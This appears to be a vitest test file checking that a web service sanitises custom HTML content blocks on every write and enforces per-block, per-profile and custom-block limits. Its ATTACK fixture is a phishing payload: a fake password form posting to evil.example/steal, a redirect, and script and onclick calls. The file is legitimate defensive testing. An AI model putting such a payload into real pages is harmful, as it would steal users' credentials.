import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { carrier, contentBlockRow, seedCarriers } from '../../../tests/support/factories.ts';
import { signInOwner } from '../../../tests/support/sessions.ts';
import { createTestApp, type TestApp } from '../../../tests/support/test-app.ts';
import { testDialect } from '../../../tests/support/test-database.ts';
import { sanitizeCustomHtml } from '../content/sanitize-html.ts';
import {
  MAX_BLOCK_CONTENT_BYTES,
  MAX_CUSTOM_BLOCKS,
  MAX_PROFILE_CONTENT_BYTES,
} from '../../../core/block-types.ts';

/** What issue 21 showed passing the sanitiser: a style sheet, a fake login form and a redirect. */
const ATTACK =
  '<style>body{visibility:hidden}</style>' +
  '<form action="https://evil.example/steal"><input type="password" name="pw"><button>Log in</button></form>' +
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">' +
  '<p onclick="steal()">Call us</p><script>steal()</script>';
const ATTACK_SANITISED = 'Log in<p>Call us</p>';
const UNSAFE = ['<style', '<form', '<input', '<meta', 'onclick', '<script', 'evil.example'];

/** Custom HTML of exactly `size` bytes that the sanitiser keeps as it is. */
const paragraphOf = (size: number) => `<p>${'a'.repeat(size - 7)}</p>`;

describe(`block content on ${testDialect}: sanitised on every write, within the profile's limits`, () => {
  let app: TestApp;
  let dot = 8100;

  const call = (
    method: 'GET' | 'POST' | 'PUT' | 'DELETE',
    url: string,
    token: string | null,
    payload?: object,
  ) =>
    app.fastify.inject({ method, url, payload, headers: token ? { authorization: `Bearer ${token}` } : {} });

  /** A fresh carrier with a signed-in owner, so each test starts from an empty profile. */
  async function newOwner() {
    dot += 1;
    await seedCarriers(app.database.db, testDialect, [carrier({ dot_number: dot, legal_name: `CO ${dot}` })]);
    const { id } = await app.database.db
      .selectFrom('companies')
      .select('id')
      .where('dot_number', '=', dot)
      .executeTakeFirstOrThrow();
    const owner = {
      id,
      dot,
      token: await signInOwner(app, { id, dot_number: dot }, `owner@${dot}.example.com`),
    };
    return owner;
  }
  const create = (owner: { id: number; token: string }, block: object) =>
    call('POST', '/api/v1/content/blocks', owner.token, { company_id: owner.id, ...block });
  const update = (owner: { token: string }, id: number, changes: object) =>
    call('PUT', `/api/v1/content/blocks/${id}`, owner.token, changes);
  const storedContent = async (id: number) =>
    (
      await app.database.db
        .selectFrom('content_blocks')
        .select('block_content')
        .where('id', '=', id)
        .executeTakeFirstOrThrow()
    ).block_content;
  /** A row as a version before this fix could leave it: custom HTML stored unsanitised. */
  async function insertRawCustomRow(companyId: number, html: string) {
    const row = await app.database.db
      .insertInto('content_blocks')
      .values(
        contentBlockRow({
          company_id: companyId,
          block_type: 'custom',
          block_title: 'Legacy',
          block_content: html,
          block_position: 0,
        }),
      )
      .returning('id')
      .executeTakeFirstOrThrow();
    return row.id;
  }

  beforeAll(async () => {
    app = await createTestApp();
  });
  afterAll(async () => {
    await app.close();
  });

  describe('sanitising', () => {
    it('sanitises HTML written as about_us when the block becomes custom, with only block_type sent', async () => {
      const owner = await newOwner();
      const about = await create(owner, { block_type: 'about_us', block_content: ATTACK });
      expect(about.statusCode).toBe(201);
      // About us is text: it is stored as written and rendered escaped, never as markup.
      expect(about.json().block_content).toBe(ATTACK);

      const changed = await update(owner, about.json().id, { block_type: 'custom' });
      expect(changed.statusCode).toBe(200);
      expect(changed.json()).toMatchObject({ block_type: 'custom', block_content: ATTACK_SANITISED });
      expect(await storedContent(about.json().id)).toBe(ATTACK_SANITISED);

      for (const url of [
        `/api/v1/companies/profile/${owner.dot}`,
        `/api/v1/companies/profile/${owner.dot}?include_hidden=true`,
        '/api/v1/companies/me',
      ]) {
        const body = (await call('GET', url, owner.token)).body;
        expect(body).toContain('Call us');
        for (const unsafe of UNSAFE) expect(body, `${url}: ${unsafe}`).not.toContain(unsafe);
      }
    });

    it('sanitises for the type after the change when type and content come together', async () => {
      const owner = await newOwner();
      const about = (await create(owner, { block_type: 'about_us', block_content: 'Plain text' })).json();
      const changed = await update(owner, about.id, { block_type: 'custom', block_content: ATTACK });
      expect(changed.json().block_content).toBe(ATTACK_SANITISED);
      // And back: custom HTML that becomes about us text is kept (it is shown escaped).
      const back = await update(owner, about.id, { block_type: 'about_us', block_content: 'A < B & C' });
      expect(back.json().block_content).toBe('A < B & C');
    });

    it('sanitises on create, on a content update and on partial updates that do not send content', async () => {
      const owner = await newOwner();
      const custom = await create(owner, { block_type: 'custom', block_content: ATTACK });
      expect(custom.json().block_content).toBe(ATTACK_SANITISED);
      const id = custom.json().id as number;
      const edited = await update(owner, id, { block_content: `${ATTACK}<h2>More</h2>` });
      expect(edited.json().block_content).toBe(`${ATTACK_SANITISED}<h2>More</h2>`);

      // A row stored unsanitised before this fix is sanitised by any write, whatever it sends.
      const legacy = await insertRawCustomRow(owner.id, ATTACK);
      for (const changes of [{ is_visible: false }, { block_title: 'Renamed' }, { block_width: 'half' }]) {
        await app.database.db
          .updateTable('content_blocks')
          .set({ block_content: ATTACK })
          .where('id', '=', legacy)
          .execute();
        const response = await update(owner, legacy, changes);
        expect(response.statusCode).toBe(200);
        expect(response.json().block_content).toBe(ATTACK_SANITISED);
        expect(await storedContent(legacy)).toBe(ATTACK_SANITISED);
      }
    });

    it('leaves stored sanitised HTML unchanged on writes that do not change it', async () => {
      const owner = await newOwner();
      const html =
        '<h2>Lanes</h2><p>A &amp; B &lt; C</p><a href="https://example.com/rates">Rates</a><img src="/media/x.jpg" alt="Truck">';
      const created = (await create(owner, { block_type: 'custom', block_content: html })).json();
      expect(created.block_content).toBe(sanitizeCustomHtml(html));
      const toggled = (await update(owner, created.id, { is_visible: false })).json();
      expect(toggled.block_content).toBe(created.block_content);
    });

    it('serves stored content as it is, without sanitising it again on each view', async () => {
      const owner = await newOwner();
      const created = (await create(owner, { block_type: 'custom', block_content: '<p>Stored</p>' })).json();
      // Only a row written outside the service could differ from its sanitised form; the profile
      // shows what is stored (migration 008 sanitised what older versions stored).
      await app.database.db
        .updateTable('content_blocks')
        .set({ block_content: '<p>Stored</p><!-- as stored -->' })
        .where('id', '=', created.id)
        .execute();
      const profile = (await call('GET', `/api/v1/companies/profile/${owner.dot}`, null)).json();
      expect(profile.blocks[0].block_content).toBe('<p>Stored</p><!-- as stored -->');
    });
  });

  describe('limits', () => {
    it(`allows at most ${MAX_CUSTOM_BLOCKS} custom blocks, also by changing a block's type`, async () => {
      const owner = await newOwner();
      for (let index = 0; index < MAX_CUSTOM_BLOCKS; index += 1) {
        expect(
          (await create(owner, { block_type: 'custom', block_content: `<p>${index}</p>` })).statusCode,
        ).toBe(201);
      }
      const over = await create(owner, { block_type: 'custom' });
      expect(over.statusCode).toBe(409);
      expect(over.json()).toEqual({
        detail: `A profile can have at most ${MAX_CUSTOM_BLOCKS} custom blocks`,
        code: 'conflict',
      });

      const about = (await create(owner, { block_type: 'about_us' })).json();
      const retype = await update(owner, about.id, { block_type: 'custom' });
      expect(retype.statusCode).toBe(409);
      expect(retype.json().detail).toBe(`A profile can have at most ${MAX_CUSTOM_BLOCKS} custom blocks`);
      // A custom block already counted may still be edited.
      const first = await app.database.db
        .selectFrom('content_blocks')
        .select('id')
        .where('company_id', '=', owner.id)
        .where('block_type', '=', 'custom')
        .executeTakeFirstOrThrow();
      expect(
        (await update(owner, first.id, { block_type: 'custom', block_title: 'Still here' })).statusCode,
      ).toBe(200);
    });

    it('refuses one block over 100 KB in UTF-8 bytes (413), as sent and as sanitised', async () => {
      const owner = await newOwner();
      const exact = await create(owner, {
        block_type: 'custom',
        block_content: paragraphOf(MAX_BLOCK_CONTENT_BYTES),
      });
      expect(exact.statusCode).toBe(201);
      const detail = `Block content may be at most 100 KB (${MAX_BLOCK_CONTENT_BYTES} bytes)`;

      const over = await update(owner, exact.json().id, {
        block_content: paragraphOf(MAX_BLOCK_CONTENT_BYTES + 1),
      });
      expect(over.statusCode).toBe(413);
      expect(over.json()).toMatchObject({ detail });
      // Fewer characters than bytes: the limit is on bytes.
      const accents = 'é'.repeat(MAX_BLOCK_CONTENT_BYTES / 2 + 1);
      expect(accents.length).toBeLessThan(MAX_BLOCK_CONTENT_BYTES);
      const about = await create(owner, { block_type: 'about_us', block_content: accents });
      expect(about.statusCode).toBe(413);
      expect(about.json()).toMatchObject({ detail });

      // Sanitising may make HTML longer (every link gets rel and target): the stored form counts.
      const links = '<a>x</a>'.repeat(Math.floor(MAX_BLOCK_CONTENT_BYTES / 8));
      expect(Buffer.byteLength(links)).toBeLessThanOrEqual(MAX_BLOCK_CONTENT_BYTES);
      const grown = await create(owner, { block_type: 'custom', block_content: links });
      expect(grown.statusCode).toBe(413);
      expect(grown.json()).toMatchObject({ detail });
    });

    it('refuses content that would take the profile over 500 KB in all (409), but lets it shrink', async () => {
      const owner = await newOwner();
      const blocks = MAX_PROFILE_CONTENT_BYTES / MAX_BLOCK_CONTENT_BYTES;
      const ids: number[] = [];
      for (let index = 0; index < blocks; index += 1) {
        const response = await create(owner, {
          block_type: 'custom',
          block_content: paragraphOf(MAX_BLOCK_CONTENT_BYTES),
        });
        expect(response.statusCode).toBe(201);
        ids.push(response.json().id);
      }
      const full = await create(owner, { block_type: 'about_us', block_content: 'x' });
      expect(full.statusCode).toBe(409);
      expect(full.json().detail).toBe(
        `The blocks of a profile may hold at most 500 KB of content together (${MAX_PROFILE_CONTENT_BYTES} bytes); ` +
          `the other blocks hold ${MAX_PROFILE_CONTENT_BYTES} bytes and this one would hold 1`,
      );
      // Blocks without content can still be added, and a block can shrink, freeing room.
      expect((await create(owner, { block_type: 'safety_score' })).statusCode).toBe(201);
      expect((await update(owner, ids[0]!, { block_content: paragraphOf(1000) })).statusCode).toBe(200);
      const about = await create(owner, { block_type: 'about_us', block_content: 'a'.repeat(101_000) });
      expect(about.statusCode).toBe(201);
      // 4 x 102,400 + 101,000 + 1,000 = 511,600 bytes: 400 more are left.
      const grows = await update(owner, ids[0]!, { block_content: paragraphOf(1401) });
      expect(grows.statusCode).toBe(409);
      expect((await update(owner, ids[0]!, { block_content: paragraphOf(1400) })).statusCode).toBe(200);
    });

    it('lets a profile stored over the limits before they existed be edited down, hidden and shown', async () => {
      const owner = await newOwner();
      const huge = paragraphOf(MAX_PROFILE_CONTENT_BYTES);
      await app.database.db
        .insertInto('content_blocks')
        .values(
          contentBlockRow({
            company_id: owner.id,
            block_type: 'custom',
            block_title: 'Legacy',
            block_content: huge,
            block_position: 0,
          }),
        )
        .execute();
      const { id } = await app.database.db
        .selectFrom('content_blocks')
        .select('id')
        .where('company_id', '=', owner.id)
        .executeTakeFirstOrThrow();
      expect((await update(owner, id, { is_visible: false })).statusCode).toBe(200);
      expect((await update(owner, id, { is_visible: true, block_width: 'half' })).statusCode).toBe(200);
      expect((await create(owner, { block_type: 'custom', block_content: '<p>more</p>' })).statusCode).toBe(
        409,
      );
      expect((await update(owner, id, { block_content: paragraphOf(5000) })).statusCode).toBe(200);
      expect((await create(owner, { block_type: 'custom', block_content: '<p>more</p>' })).statusCode).toBe(
        201,
      );
    });

    it('holds under concurrent writes: no more custom blocks or content than the limits', async () => {
      const owner = await newOwner();
      const attempts = await Promise.all(
        Array.from({ length: MAX_CUSTOM_BLOCKS + 6 }, (_unused, index) =>
          create(owner, { block_type: 'custom', block_content: `<p>${index}</p>` }),
        ),
      );
      expect(attempts.filter((response) => response.statusCode === 201)).toHaveLength(MAX_CUSTOM_BLOCKS);
      expect(attempts.filter((response) => response.statusCode === 409)).toHaveLength(6);

      const second = await newOwner();
      const large = await Promise.all(
        Array.from({ length: 8 }, () =>
          create(second, { block_type: 'custom', block_content: paragraphOf(MAX_BLOCK_CONTENT_BYTES) }),
        ),
      );
      expect(large.filter((response) => response.statusCode === 201)).toHaveLength(
        MAX_PROFILE_CONTENT_BYTES / MAX_BLOCK_CONTENT_BYTES,
      );
      const rows = await app.database.db
        .selectFrom('content_blocks')
        .select('block_content')
        .where('company_id', '=', second.id)
        .execute();
      const total = rows.reduce((sum, row) => sum + Buffer.byteLength(row.block_content), 0);
      expect(total).toBeLessThanOrEqual(MAX_PROFILE_CONTENT_BYTES);

      // One block type per profile holds under concurrency too.
      const third = await newOwner();
      const abouts = await Promise.all(
        Array.from({ length: 4 }, () => create(third, { block_type: 'about_us' })),
      );
      expect(abouts.filter((response) => response.statusCode === 201)).toHaveLength(1);
    });
  });
});
